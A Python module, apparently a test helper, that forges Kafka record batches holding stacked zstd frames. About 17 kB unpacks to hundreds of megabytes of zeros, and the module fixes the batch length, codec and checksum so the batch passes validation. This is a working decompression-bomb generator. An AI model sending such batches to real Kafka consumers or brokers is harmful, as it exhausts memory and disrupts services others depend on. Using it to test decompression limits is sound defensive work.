"""Record batches of a few kilobytes that unpack to hundreds of megabytes."""

from __future__ import annotations

import time
from typing import Final

import cramjam
from aiokafka.record.default_records import DefaultRecordBatchBuilder
from aiokafka.record.util import calc_crc32c

_MIB: Final = 1 << 20
_HEADER_BYTES: Final = 61
_CODEC_ZSTD: Final = 4


def varint(value: int) -> bytes:
    """As records write their lengths."""
    value, out = value << 1, bytearray()
    while value > 0x7F:
        out.append(value & 0x7F | 0x80)
        value >>= 7
    return bytes(out) + bytes([value])


def bomb(mib: int, frame_mib: int = 16) -> bytearray:
    """A batch with one record whose value unpacks to ``mib`` MiB of zeros: 17 kB of 512 MiB.

    Frames of zstd may follow each other: it need not be unpacked to be made.
    """
    frame_mib = min(mib, frame_mib)
    frames = mib // frame_mib
    size = frames * frame_mib * _MIB
    inside = b"\0\0\0" + b"\x02k" + varint(size)  # attributes, deltas, key, size of the value
    start = varint(len(inside) + size + 1) + inside
    zeros = bytes(cramjam.zstd.compress(bytes(frame_mib * _MIB)))
    body = b"".join(
        [bytes(cramjam.zstd.compress(start)), *[zeros] * frames,
         bytes(cramjam.zstd.compress(b"\0"))]
    )  # fmt: skip
    builder = DefaultRecordBatchBuilder(
        magic=2, compression_type=0, is_transactional=0, producer_id=-1, producer_epoch=-1,
        base_sequence=-1, batch_size=_MIB,
    )  # fmt: skip
    builder.append(0, timestamp=time.time_ns() // 1_000_000, key=b"k", value=b"", headers=[])
    whole = bytearray(builder.build())[:_HEADER_BYTES] + body
    whole[8:12] = (len(whole) - 12).to_bytes(4, "big")
    whole[22] = _CODEC_ZSTD
    whole[17:21] = calc_crc32c(bytes(whole[21:])).to_bytes(4, "big")
    return whole
